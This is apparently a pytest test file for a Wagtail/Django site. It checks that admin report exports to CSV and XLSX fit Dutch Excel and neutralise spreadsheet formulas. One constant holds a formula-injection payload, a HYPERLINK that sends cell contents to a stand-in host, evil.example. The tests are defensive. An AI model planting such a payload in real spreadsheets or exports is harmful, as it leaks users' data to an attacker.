"""Wagtail's admin exports (its reports) go through common.exports too (issue 17): Dutch
Excel's CSV (BOM, ``;``, CRLF) and formulas neutralised in CSV and XLSX, read back with the csv
module and openpyxl."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.utils import timezone
from wagtail.models import Page

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'


@pytest.fixture
def locked_page(roles, site_pages):
    page = Page.objects.filter(depth=3).first().specific
    page.title = ATTACK
    page.locked, page.locked_by, page.locked_at = True, roles["administrator"], timezone.now()
    page.save()
    return page


def _body(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_a_wagtail_report_csv_opens_in_dutch_excel_with_formulas_neutralised(
    client, roles, locked_page
):
    client.force_login(roles["administrator"])
    body = _body(client.get("/beheer/reports/locked/?export=csv"))
    assert body.startswith(b"\xef\xbb\xbf") and b"\r\n" in body
    rows = list(csv.reader(io.StringIO(body.decode("utf-8")[1:], newline=""), delimiter=";"))
    assert len(rows[0]) > 1  # split on ";"
    assert [row[0] for row in rows[1:]] == [f"'{ATTACK}"]


def test_a_wagtail_report_xlsx_has_the_formula_as_text(client, roles, locked_page):
    client.force_login(roles["administrator"])
    response = client.get("/beheer/reports/locked/?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(_body(response))).active
    cell = sheet["A2"]
    assert (cell.value, cell.data_type) == (f"'{ATTACK}", "s")
